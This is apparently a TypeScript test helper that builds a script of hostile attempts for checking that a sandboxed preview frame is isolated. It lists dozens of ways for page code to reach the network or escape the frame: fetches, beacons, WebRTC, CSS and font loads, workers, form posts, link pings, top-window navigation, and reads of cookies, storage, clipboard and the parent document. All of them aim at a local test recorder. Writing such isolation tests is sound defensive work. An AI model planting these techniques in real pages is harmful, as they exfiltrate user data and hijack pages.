import type { NetworkRecorder } from './network-recorder.ts';

/**
 * What a hostile artifact tries, as the source of `attempts(report)`, which resolves when all have been made. Each
 * reports once, under its own name. The same source runs in a page of its own, where the attempts succeed.
 *
 * `keptPeerConnection` is what a test put aside before any script of the frame ran: it stands for a way to a fresh
 * constructor that nobody has thought of.
 */
export function attemptsSource(
  recorder: Pick<NetworkRecorder, 'origin' | 'udpPort' | 'tcpPort'>,
): string {
  return `
const TARGET = ${JSON.stringify(recorder.origin)};
const WAIT_MS = 400;
const within = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(() => resolve('nothing came'), WAIT_MS))]);
const settled = (element) => within(new Promise((resolve) => {
  element.addEventListener('load', () => resolve('loaded'));
  element.addEventListener('error', () => resolve('refused'));
}));
const insert = (tag, properties, parent = document.head) => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(properties)) element.setAttribute(name, value);
  const outcome = settled(element);
  parent.append(element);
  return outcome;
};
const link = (rel, more = {}) => insert('link', { rel, href: TARGET + '/' + rel, ...more });
const styled = (css) => { insert('style', {}).catch(() => {}); const style = document.head.lastElementChild; style.textContent = css; return 'styled'; };
const nested = (properties) => {
  const frame = document.createElement('iframe');
  for (const [name, value] of Object.entries(properties)) frame.setAttribute(name, value);
  document.body.append(frame);
  return frame;
};
async function peer(Constructor) {
  if (typeof Constructor !== 'function') return 'no constructor';
  const connection = new Constructor({ iceServers: [{ urls: 'stun:127.0.0.1:${recorder.udpPort}' }] });
  connection.createDataChannel('out');
  await connection.setLocalDescription(await connection.createOffer());
  await within(new Promise((resolve) => { connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && resolve(); }));
  return 'gathered';
}
const bytes = (text, type) => URL.createObjectURL(new Blob([text], { type }));
const ATTEMPTS = {
  fetch: () => fetch(TARGET + '/fetch'),
  'fetch without cors': () => fetch(TARGET + '/fetch-no-cors', { mode: 'no-cors' }),
  'fetch that outlives the page': () => fetch(TARGET + '/fetch-keepalive', { keepalive: true, mode: 'no-cors' }),
  'fetch of the site': () => fetch(new URL('/search-index.json', location.href.startsWith('http') ? location.href : TARGET)),
  XMLHttpRequest: () => within(new Promise((resolve) => { const request = new XMLHttpRequest(); request.onloadend = () => resolve(request.status); request.open('GET', TARGET + '/xhr'); request.send(); })),
  sendBeacon: () => navigator.sendBeacon(TARGET + '/beacon', 'data'),
  EventSource: () => within(new Promise((resolve) => { const source = new EventSource(TARGET + '/event-source'); source.onerror = () => { source.close(); resolve('refused'); }; })),
  WebSocket: () => within(new Promise((resolve) => { const socket = new WebSocket(TARGET.replace('http', 'ws') + '/web-socket'); socket.onerror = () => resolve('refused'); })),
  WebTransport: () => new WebTransport('https://127.0.0.1:${recorder.udpPort}/web-transport').ready,
  image: () => insert('img', { src: TARGET + '/img' }, document.body),
  'image set': () => insert('img', { srcset: TARGET + '/img-set 1x' }, document.body),
  'video poster': () => insert('video', { poster: TARGET + '/poster', src: TARGET + '/video' }, document.body),
  audio: () => insert('audio', { src: TARGET + '/audio', preload: 'auto' }, document.body),
  object: () => insert('object', { data: TARGET + '/object' }, document.body),
  embed: () => insert('embed', { src: TARGET + '/embed' }, document.body),
  script: () => insert('script', { src: TARGET + '/script' }),
  'module script': () => insert('script', { src: TARGET + '/module', type: 'module' }),
  'import()': () => new Function('target', 'return import(target)')(TARGET + '/import'),
  'import() as written': () => import(${JSON.stringify(`${recorder.origin}/import-as-written`)}),
  'inline script': () => { insert('script', {}); const script = document.head.lastElementChild; script.remove(); const again = document.createElement('script'); again.textContent = 'fetch("' + TARGET + '/inline-script")'; document.head.append(again); return 'inserted'; },
  stylesheet: () => link('stylesheet'),
  preload: () => link('preload', { as: 'image' }),
  modulepreload: () => link('modulepreload'),
  prefetch: () => link('prefetch'),
  prerender: () => link('prerender'),
  'dns-prefetch': () => link('dns-prefetch'),
  preconnect: () => insert('link', { rel: 'preconnect', href: 'http://127.0.0.1:${recorder.tcpPort}' }),
  manifest: () => link('manifest'),
  icon: () => link('icon'),
  'speculation rules': () => { const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.textContent = JSON.stringify({ prefetch: [{ urls: [TARGET + '/speculation'], eagerness: 'immediate' }] }); document.head.append(rules); return 'inserted'; },
  'CSS url()': () => styled('body { background-image: url(' + TARGET + '/css-url) }'),
  'CSS @import': () => { const style = document.createElement('style'); style.textContent = '@import url(' + TARGET + '/css-import);'; document.head.append(style); return settled(style); },
  'CSS @font-face': () => { styled('@font-face { font-family: leak; src: url(' + TARGET + '/css-font) } body { font-family: leak }'); return within(document.fonts.load('16px leak')); },
  FontFace: () => new FontFace('leak2', 'url(' + TARGET + '/font-face)').load(),
  'SVG use': () => { document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + TARGET + '/svg-image"/><use href="' + TARGET + '/svg-use#a"/></svg>'); return 'inserted'; },
  'frame of another site': () => { nested({ src: TARGET + '/frame' }); return 'inserted'; },
  'frame of the site': () => { nested({ src: '/' }); return 'inserted'; },
  'peer connection': () => peer(globalThis.RTCPeerConnection),
  'peer connection by its old name': () => peer(globalThis.webkitRTCPeerConnection),
  'peer connection of a prototype': () => peer(globalThis.RTCDataChannel?.prototype?.constructor === undefined ? undefined : Object.getOwnPropertyNames(globalThis).filter((name) => name.includes('PeerConnection')).map((name) => globalThis[name]).find((value) => typeof value === 'function')),
  'peer connection that was kept': () => peer(globalThis.keptPeerConnection),
  'peer connection of an empty frame': () => peer(nested({}).contentWindow.RTCPeerConnection),
  'peer connection of a written frame': () => { const frame = nested({}); frame.contentDocument.write('<script>parent.fresh = RTCPeerConnection</' + 'script>'); return peer(globalThis.fresh); },
  'peer connection of a srcdoc frame': () => within(new Promise((resolve) => {
    const blob = bytes('parent.postMessage("nested: " + typeof RTCPeerConnection, "*")', 'text/javascript');
    addEventListener('message', ({ data }) => typeof data === 'string' && data.startsWith('nested') && resolve(data));
    nested({ srcdoc: '<script>parent.postMessage("nested: " + typeof RTCPeerConnection, "*")</' + 'script><script src="' + blob + '"></' + 'script><img src="data:," onerror="parent.postMessage(&quot;nested: handler&quot;, &quot;*&quot;)"><script src="data:text/javascript,parent.postMessage(&quot;nested: data&quot;, &quot;*&quot;)"></' + 'script>' });
  })),
  'peer connection of a blob frame': () => within(new Promise((resolve) => {
    addEventListener('message', ({ data }) => data === 'blob frame' && resolve(data));
    nested({ src: bytes('<script>parent.postMessage("blob frame", "*")</' + 'script>', 'text/html') });
  })),
  'network of a worker': () => within(new Promise((resolve) => {
    const worker = new Worker(bytes('fetch("' + TARGET + '/worker").then(() => postMessage("sent"), () => postMessage("refused"))', 'text/javascript'));
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = () => resolve('refused');
  })),
  'network of a shared worker': () => within(new Promise((resolve) => { const worker = new SharedWorker(bytes('fetch("' + TARGET + '/shared-worker")', 'text/javascript')); worker.onerror = () => resolve('refused'); })),
  'service worker': () => navigator.serviceWorker.register('/preview/frame.html').then(() => 'registered'),
  worklet: () => CSS.paintWorklet === undefined ? 'none here' : CSS.paintWorklet.addModule(TARGET + '/worklet'),
  'form submission': () => { document.body.insertAdjacentHTML('beforeend', '<form id="leak" method="post" target="_blank" action="' + TARGET + '/form"><input name="a" value="1"></form>'); document.querySelector('#leak').submit(); return 'submitted'; },
  'form requestSubmit': () => { document.querySelector('#leak').requestSubmit(); return 'submitted'; },
  'link with a ping': () => { document.body.insertAdjacentHTML('beforeend', '<a id="ping" href="#here" ping="' + TARGET + '/ping">x</a>'); document.querySelector('#ping').click(); return 'clicked'; },
  'window.open': () => { const opened = open(TARGET + '/open'); return opened === null ? 'null' : 'opened'; },
  'link to a new window': () => { document.body.insertAdjacentHTML('beforeend', '<a id="blank" target="_blank" href="' + TARGET + '/blank">x</a>'); const a = document.querySelector('#blank'); a.addEventListener('click', (event) => event.stopImmediatePropagation()); a.click(); return 'clicked'; },
  'parent document': () => String(parent.document.title),
  'parent variables': () => { parent.hacked = 1; return 'set'; },
  'parent storage': () => parent.localStorage.length,
  'page around: location': () => { top.location.href = TARGET + '/top'; return 'set'; },
  'page around: replace': () => { top.location.replace(TARGET + '/top-replace'); return 'set'; },
  'page around: link': () => { document.body.insertAdjacentHTML('beforeend', '<a id="top" target="_top" href="' + TARGET + '/top-link">x</a>'); const a = document.querySelector('#top'); a.addEventListener('click', (event) => event.stopImmediatePropagation()); a.click(); return 'clicked'; },
  cookie: () => { document.cookie = 'hacked=1'; return document.cookie; },
  localStorage: () => localStorage.length,
  sessionStorage: () => sessionStorage.length,
  indexedDB: () => new Promise((resolve, reject) => { const request = indexedDB.open('x'); request.onerror = () => reject(request.error); request.onsuccess = () => resolve('opened'); }),
  caches: () => caches.open('x').then(() => 'opened'),
  'document.domain': () => { document.domain = '127.0.0.1'; return 'set'; },
  dialogs: () => { alert('x'); confirm('x'); prompt('x'); print(); return 'called'; },
  'javascript: address': () => { location.href = 'javascript:document.body.dataset.hacked=1'; return 'set'; },
  clipboard: () => navigator.clipboard.readText(),
  'many messages': () => { for (let count = 0; count < 2000; count += 1) parent.postMessage({ type: 'rendered', problem: { message: '<img>' } }, '*'); return 'sent'; },
};
async function attempts(report) {
  const make = async ([name, attempt]) => {
    let outcome;
    try { outcome = 'came back: ' + String(await attempt()); } catch (error) { outcome = 'refused: ' + String(error?.name ?? error); }
    report(name, outcome.slice(0, 80));
  };
  const entries = Object.entries(ATTEMPTS);
  // Several at a time, begun in their order: those that can end the page are the last.
  for (let at = 0; at < entries.length; at += 16) await Promise.all(entries.slice(at, at + 16).map(make));
}
const ATTEMPT_COUNT = Object.keys(ATTEMPTS).length;
`;
}
